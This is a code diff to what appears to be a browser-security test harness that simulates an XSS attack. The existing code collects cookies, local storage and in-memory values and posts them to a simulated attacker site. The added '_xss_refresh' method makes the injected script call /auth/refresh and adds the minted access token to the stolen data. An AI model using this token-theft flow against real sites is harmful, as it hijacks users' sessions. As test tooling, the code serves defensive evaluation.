@@ -291,6 +291,9 @@ class _Run:
         stolen = dict(parse_cookie_header(doc_cookie))
         stolen.update(local)
         stolen.update(memory)
+        minted = self._xss_refresh() if self.server.mode == "hybrid" else None
+        if minted is not None:
+            stolen[TOKEN_KEY] = minted
         payload = json.dumps(stolen) if stolen else "null"
         self.browser.script("app", _XSS_SEND % (_js(self.sites.attacker), _js(payload)))
         self.take(stolen)
@@ -315,6 +318,20 @@ class _Run:
             local_storage=local,
             memory=memory,
         )
+
+    def _xss_refresh(self) -> str | None:
+        """Hybrid: the injected script POSTs /auth/refresh from the real page, as the
+        simulated one does, and reads the fresh access token from the answer."""
+        since = next(self.server.order)
+        self.browser.call("fetch", "POST", "/auth/refresh", None)
+        self.browser.settle()
+        arrival = self.last_arrival("POST", "/auth/refresh", since)
+        answer = None if arrival is None else arrival.answer
+        body = None if answer is None else answer.body
+        if answer is not None and answer.status == 200 and isinstance(body, dict):
+            token = body.get(TOKEN_KEY)
+            return token if isinstance(token, str) else None
+        return None
 
     def _xss_request(self, args: Mapping[str, Any]) -> None:
         since = next(self.server.order)
